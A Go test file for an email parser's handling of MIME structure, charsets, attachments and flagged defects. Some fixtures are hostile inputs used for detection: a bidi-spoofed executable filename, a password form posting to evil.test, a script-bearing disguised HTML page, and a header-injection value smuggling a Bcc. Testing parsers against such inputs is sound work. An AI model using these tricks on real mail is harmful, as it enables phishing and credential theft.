package message

import (
	"crypto/sha256"
	"encoding/base64"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// crlf writes a message as it travels.
func crlf(s string) []byte { return []byte(strings.ReplaceAll(s, "\n", "\r\n")) }

const top = "From: Jane <jane@example.org>\nTo: desk@example.net\nSubject: Test\nMIME-Version: 1.0\n"

// summary is what the table below compares.
type summary struct {
	Text, HTML string
	Files      []string // name, type and, when it is a message, its subject
	Defects    []string
}

func summarize(m *Message) summary {
	s := summary{Text: strings.TrimRight(m.Text, "\n"), HTML: strings.TrimRight(m.HTML, "\r\n")}
	for i := range m.Attachments {
		a := &m.Attachments[i]
		line := a.Name + "|" + a.Type
		if a.Message != nil {
			line += "|" + a.Message.Subject
		}
		s.Files = append(s.Files, line)
	}
	for _, d := range m.Defects {
		s.Defects = append(s.Defects, d.Code)
	}
	return s
}

func TestParse(t *testing.T) {
	pdf := base64.StdEncoding.EncodeToString([]byte("%PDF-1.7 hello"))
	inner := base64.StdEncoding.EncodeToString(crlf("From: a@b.test\nSubject: Inner\n\ninside\n"))
	tests := []struct {
		name, in string
		want     summary
	}{
		{"plain", top + "\nHello\n", summary{Text: "Hello"}},
		{"empty", "", summary{Defects: []string{DefectNoHeader}}},
		{"no header", "Dear friend\nsend money\n", summary{Text: "Dear friend\nsend money", Defects: []string{DefectNoHeader}}},
		{"colon but no header", "Note: this\n\nis text\n", summary{Text: "Note: this\n\nis text", Defects: []string{DefectNoHeader}}},
		{"a file that is no mail", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + wide("__substg1.0_"), summary{Files: []string{"|application/vnd.ms-outlook"}, Defects: []string{DefectNoHeader, DefectOutlook}}},
		{"mbox line", "From jane@example.org Tue Nov  3 14:05:06 2026\n" + top + "\nHello\n", summary{Text: "Hello", Defects: []string{DefectLeadingJunk}}},
		{"copied from a page", "\n\nShow original\n" + top + "\nHello\n", summary{Text: "Hello", Defects: []string{DefectLeadingJunk}}},
		{"no empty line", top + "Hello there\nbye\n", summary{Text: "Hello there\nbye", Defects: []string{DefectHeaderEnd}}},
		{"line without colon", "From: a@b.test\nthis is wrong\nSubject: x\n\nHello\n", summary{Text: "Hello", Defects: []string{DefectHeaderLine}}},
		{
			"alternative", top + "Content-Type: multipart/alternative; boundary=b1\n\npreamble\n--b1\nContent-Type: text/plain\n\nHello\n--b1\nContent-Type: text/html\n\n<p>Hello\n--b1--\nepilogue\n",
			summary{Text: "Hello", HTML: "<p>Hello"},
		},
		{
			"nested, inner not closed", top + "Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: multipart/alternative; boundary=in\n\n--in\n\nHello\n--in\nContent-Type: text/html\n\n<b>Hello\n--out\nContent-Type: application/pdf; name=a.pdf\nContent-Transfer-Encoding: base64\n\n" + pdf + "\n--out--\n",
			summary{Text: "Hello", HTML: "<b>Hello", Files: []string{"a.pdf|application/pdf"}, Defects: []string{DefectBoundaryOpen}},
		},
		{
			"boundary is the beginning of another", top + "Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: multipart/mixed; boundary=xy\n\n--xy\n\none\n--xy--\n--x\n\ntwo\n--x--\n",
			summary{Text: "one\ntwo"},
		},
		{
			"same boundary twice", top + "Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: multipart/mixed; boundary=x\n\n--x\n\none\n--x--\n--x\n\ntwo\n--x--\n",
			summary{Text: "one\ntwo"},
		},
		{
			"no boundary parameter", top + "Content-Type: multipart/mixed\n\n--forgot\nContent-Type: text/plain\n\nHello\n--forgot--\n",
			summary{Text: "Hello", Defects: []string{DefectBoundaryMissing}},
		},
		{
			"wrong boundary parameter", top + "Content-Type: multipart/mixed; boundary=said\n\n--used\nContent-Type: text/plain\n\nHello\n--used\nContent-Type: text/html\n\n<i>x\n--used--\n",
			summary{Text: "Hello", HTML: "<i>x", Defects: []string{DefectBoundaryMissing}},
		},
		{
			"no parts", top + "Content-Type: multipart/mixed; boundary=x\n\nHello\n",
			summary{Text: "Hello", Defects: []string{DefectBoundaryMissing}},
		},
		{
			"only closed", top + "Content-Type: multipart/mixed; boundary=x\n\nContent-Type: text/html\n\n<p>Hi\n--x--\n",
			summary{HTML: "<p>Hi", Defects: []string{DefectBoundaryMissing}},
		},
		{
			"multipart in base64", top + "Content-Type: multipart/mixed; boundary=x\nContent-Transfer-Encoding: base64\n\n" + base64.StdEncoding.EncodeToString([]byte("--x\n\nHello\n--x--\n")) + "\n",
			summary{Text: "Hello", Defects: []string{DefectBoundaryMissing}},
		},
		{
			"not closed", top + "Content-Type: multipart/mixed; boundary=x\n\n--x\n\nHello\n",
			summary{Text: "Hello", Defects: []string{DefectBoundaryOpen}},
		},
		{
			"part without empty line", top + "Content-Type: multipart/mixed; boundary=x\n\n--x\nHello: world\n\nmore\n--x--\n",
			summary{Text: "Hello: world\n\nmore"},
		},
		{
			"message attached", top + "Content-Type: multipart/mixed; boundary=x\n\n--x\n\nSee below\n--x\nContent-Type: message/rfc822\n\nFrom: a@b.test\nSubject: Inner\nContent-Type: multipart/mixed; boundary=y\n\n--y\n\ninside\n--y--\n--x--\n",
			summary{Text: "See below", Files: []string{"|message/rfc822|Inner"}},
		},
		{
			"message in base64", top + "Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n" + inner + "\n--x--\n",
			summary{Files: []string{"|message/rfc822|Inner"}},
		},
		{
			"eml by name", top + "Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: application/octet-stream; name=\"a.EML\"\nContent-Transfer-Encoding: base64\n\n" + inner + "\n--x--\n",
			summary{Files: []string{"a.EML|message/rfc822|Inner"}},
		},
		{
			"eml by content", top + "Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n" + inner + "\n",
			summary{Files: []string{"|message/rfc822|Inner"}},
		},
		{
			"digest", top + "Content-Type: multipart/digest; boundary=x\n\n--x\n\nFrom: a@b.test\nSubject: One\n\n1\n--x\n\nFrom: a@b.test\nSubject: Two\n\n2\n--x--\n",
			summary{Files: []string{"|message/rfc822|One", "|message/rfc822|Two"}},
		},
		{
			"type told wrongly", top + "Content-Type: application/pdf; name=\"../invoice\u202efdp.exe\"\nContent-Transfer-Encoding: base64\n\n" + base64.StdEncoding.EncodeToString([]byte("MZ\x90\x00")) + "\n",
			summary{Files: []string{"invoicefdp.exe|application/vnd.microsoft.portable-executable"}, Defects: []string{DefectFileName, DefectFileNameBidi}},
		},
		{
			"attached text is a file", top + "Content-Type: multipart/mixed; boundary=x\n\n--x\n\nHello\n--x\nContent-Type: text/plain; name=notes.txt\nContent-Disposition: attachment\n\nnotes\n--x--\n",
			summary{Text: "Hello", Files: []string{"notes.txt|text/plain"}},
		},
		{
			"attached page is a file", top + "Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/html\n\n<p>see\n--x\nContent-Type: text/html; name=login.html\n\n<form><input type=password>\n--x--\n",
			summary{HTML: "<p>see", Files: []string{"login.html|text/html"}},
		},
		{"undeclared HTML", top + "\n<html><body>Hi\n", summary{HTML: "<html><body>Hi"}},
		{"charset", top + "Content-Type: text/plain; charset=iso-8859-1\n\nGr\xfc\xdfe\n", summary{Text: "Grüße"}},
		{"charset of the page", top + "Content-Type: text/html\n\n<meta charset=koi8-r>\xf0\n", summary{HTML: "<meta charset=koi8-r>П"}},
		{"unknown charset", top + "Content-Type: text/plain; charset=nonsense\n\nGr\xfc\xdfe\n", summary{Text: "Grüße", Defects: []string{DefectCharset}}},
		{"NUL", top + "\nHel\x00lo\n", summary{Text: "Hello", Defects: []string{DefectControl}}},
		{"flowed", top + "Content-Type: text/plain; format=flowed\n\nhttp://example.org/ \nis a link\n", summary{Text: "http://example.org/ is a link"}},
		{
			"uuencoded", top + "\nSee:\nbegin 644 cat.txt\n#0V%T\n`\nend\nbye\n",
			summary{Text: "See:\nbye", Files: []string{"cat.txt|text/plain"}},
		},
		{"bad type", top + "Content-Type: text\n\nHello\n", summary{Text: "Hello"}},
		{"no type but a page", top + "Content-Type: <html>\n\n<html>Hi\n", summary{HTML: "<html>Hi"}},
		{"two subjects", "Subject: a\nSubject: b\nFrom: x@y.test\n\nHello\n", summary{Text: "Hello", Defects: []string{DefectDuplicateField}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, raw := range [][]byte{[]byte(tt.in), crlf(tt.in)} {
				if diff := cmp.Diff(tt.want, summarize(Parse(raw, Limits{}))); diff != "" {
					t.Errorf("%q: (-want +got):\n%s", raw, diff)
				}
			}
		})
	}
}

func TestParseFields(t *testing.T) {
	m := Parse(crlf("Return-Path: <bounce@example.org>\nFrom: \"Bank, Inc\" <help@bank.example>\nSender: s@bank.example\nReply-To: r@attacker.test\n"+
		"To: a@b.test\nCc: c@d.test\nSubject: =?utf-8?q?R=C3=A9sum=C3=A9?=\n  of it\nMessage-ID: <1@bank.example>\nDate: Tue, 3 Nov 2026 15:05:06 +0100\n\nx\n"), Limits{})
	if m.ReturnPath != "bounce@example.org" || m.Subject != "Résumé of it" || m.MessageID != "1@bank.example" || m.Date.Unix() != 1793714706 {
		t.Errorf("got %q %q %q %v", m.ReturnPath, m.Subject, m.MessageID, m.Date)
	}
	want := [][]Address{{{"Bank, Inc", "help@bank.example"}}, {{"", "s@bank.example"}}, {{"", "r@attacker.test"}}, {{"", "a@b.test"}}, {{"", "c@d.test"}}}
	if diff := cmp.Diff(want, [][]Address{m.From, m.Sender, m.ReplyTo, m.To, m.Cc}); diff != "" {
		t.Error(diff)
	}
}

func TestBareCR(t *testing.T) {
	m := Parse([]byte("From: a@b.test\rSubject: Mac\r\rHello\rthere\r"), Limits{})
	if m.Subject != "Mac" || m.Text != "Hello\nthere\n" || !m.HasDefect(DefectBareCR) {
		t.Errorf("got %q, %q, %v", m.Subject, m.Text, m.Defects)
	}
}

func TestControlInHeader(t *testing.T) {
	m := Parse([]byte("From: a@b.test\nSubject: one\rBcc: victim@b.test\x00\n\nx\n"), Limits{})
	if m.Subject != "one Bcc: victim@b.test" || m.Header.Has("Bcc") || !m.HasDefect(DefectControl) {
		t.Errorf("got %q, %v", m.Subject, m.Defects)
	}
}

func TestHeaderInCharsetOfText(t *testing.T) {
	m := Parse([]byte("From: \xb0\xa1 <a@b.test>\nSubject: \xb0\xa1\nContent-Type: text/plain; charset=euc-kr\n\n\xb0\xa1\n"), Limits{})
	if m.Subject != "가" || m.From[0].Name != "가" || m.Text != "가\n" {
		t.Errorf("got %q, %q, %q", m.Subject, m.From, m.Text)
	}
}

func TestAttachment(t *testing.T) {
	content := "\x89PNG\r\n\x1a\n picture"
	m := Parse(crlf(top+"Content-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\n\n<img src=\"cid:logo@x\">\n--x\nContent-Type: IMAGE/PNG; name=logo.png\nContent-ID: <logo@x>\nContent-Transfer-Encoding: base64\n\n"+
		base64.StdEncoding.EncodeToString([]byte(content))+"\n--x--\n"), Limits{})
	if len(m.Attachments) != 1 {
		t.Fatalf("%d attachments", len(m.Attachments))
	}
	a := m.Attachments[0]
	want := Attachment{
		Name: "logo.png", Declared: "image/png", Type: "image/png", Size: int64(len(content)),
		SHA256: sha256.Sum256([]byte(content)), Content: []byte(content), Inline: true, ContentID: "logo@x",
	}
	if diff := cmp.Diff(want, a); diff != "" {
		t.Error(diff)
	}
}

func TestDisguisedPage(t *testing.T) {
	m := Parse([]byte(top+"Content-Type: application/octet-stream; name=Invoice.HTM\n\nwords first <script>new Blob([atob(x)])</script>\n"), Limits{})
	if a := m.Attachments[0]; a.Type != "text/html" || a.Markup == nil || len(a.Markup.Markers) != 2 {
		t.Errorf("type %s, markup %+v", a.Type, a.Markup)
	}
}

func TestPageAttachment(t *testing.T) {
	m := Parse(crlf(top+"Content-Type: text/html; name=a.html\nContent-Disposition: attachment\n\n<form action=https://evil.test/><input type=password>\n"), Limits{})
	if len(m.Attachments) != 1 || m.Attachments[0].Markup == nil || !m.Attachments[0].Markup.Forms[0].Password() {
		t.Errorf("the page was not read: %+v", summarize(m))
	}
}

func TestNotices(t *testing.T) {
	m := Parse(crlf(top+"Content-Type: multipart/report; report-type=delivery-status; boundary=x\n\n--x\n\nIt failed.\n--x\nContent-Type: message/delivery-status\n\n"+
		"Reporting-MTA: dns; mx.example.org\n\nFinal-Recipient: rfc822; a@b.test\nAction: failed\nStatus: 5.1.1\n\nFinal-Recipient: rfc822; c@b.test\nAction: failed\n--x\nContent-Type: text/rfc822-headers\n\nSubject: Lost\nFrom: me@example.org\n--x--\n"), Limits{})
	if len(m.Notices) != 2 || len(m.Attachments) != 0 || strings.TrimSpace(m.Text) != "It failed." {
		t.Fatalf("%d notices, %d files, %q", len(m.Notices), len(m.Attachments), m.Text)
	}
	status := m.Notices[0]
	if status.Type != "message/delivery-status" || len(status.Groups) != 3 || status.Groups[1].Raw("Status") != "5.1.1" {
		t.Errorf("status = %+v", status)
	}
	if got := m.Notices[1].Groups[0].Get("Subject"); got != "Lost" {
		t.Errorf("returned subject %q", got)
	}
}

func TestBody(t *testing.T) {
	if got := Parse([]byte(top+"Content-Type: text/html\n\n<p>Hi<p>you"), Limits{}).Body(); got != "Hi\n\nyou" {
		t.Errorf("HTML only: %q", got)
	}
	if got := Parse([]byte(top+"\nHi"), Limits{}).Body(); got != "Hi" {
		t.Errorf("text: %q", got)
	}
}

// wide writes ASCII as UTF-16.
func wide(s string) string {
	var out strings.Builder
	for i := range len(s) {
		out.WriteByte(s[i])
		out.WriteByte(0)
	}
	return out.String()
}
